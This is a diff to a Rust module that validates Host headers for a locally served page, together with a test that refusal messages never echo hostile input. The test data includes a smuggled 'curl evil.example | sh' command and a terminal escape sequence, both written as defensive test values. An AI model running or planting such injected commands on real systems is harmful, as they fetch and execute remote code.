@@ -1,11 +1,7 @@
 //! Which requests are allowed: those of the page itself, and of a browser that opens it on this machine.
 
-use std::net::IpAddr;
-
 use axum::http::{HeaderMap, header};
-
-/// Maximum length of a host's name and its port.
-const HOST_BYTES_MAX: usize = 260;
+use sateen_command_line::{is_machine_name, machine_address, without_port};
 
 /// Why a request is refused, if it is.
 pub fn refusal(headers: &HeaderMap, port: u16) -> Option<String> {
@@ -26,8 +22,8 @@ pub fn refusal(headers: &HeaderMap, port: u16) -> Option<String> {
 
 /// Whether an answer may repeat this.
 fn is_like_a_host(text: &str) -> bool {
-    (1..=HOST_BYTES_MAX).contains(&text.len())
-        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.:[]".contains(&byte))
+    let name = without_port(text);
+    is_machine_name(name) || machine_address(name).is_some()
 }
 
 fn is_this_page(host: &str, port: u16) -> bool {
@@ -38,9 +34,8 @@ fn is_this_page(host: &str, port: u16) -> bool {
         // A browser leaves out the default port of http.
         _ => (host, Some(80)),
     };
-    let address = name.trim_start_matches('[').trim_end_matches(']');
     let is_loopback = name.eq_ignore_ascii_case("localhost")
-        || address.parse::<IpAddr>().is_ok_and(|address| address.is_loopback());
+        || machine_address(name).is_some_and(|address| address.is_loopback());
     is_loopback && at == Some(port)
 }
 
@@ -86,7 +81,10 @@ mod tests {
             refusal(&headers, 7710).expect("it is refused")
         };
         assert!(why("grid.example:80").contains("`grid.example:80`"));
-        for hostile in ["evil; curl evil.example | sh", "evil`", "evil\u{9b}2J", &"evil".repeat(100)] {
+        assert!(why("[fd00::1]:80").contains("`[fd00::1]:80`"));
+        for hostile in
+            ["evil; curl evil.example | sh", "evil`", "evil\u{9b}2J", "--evil", "[evil]", &"evil".repeat(100)]
+        {
             assert!(!why(hostile).contains("evil"), "{hostile}");
         }
     }
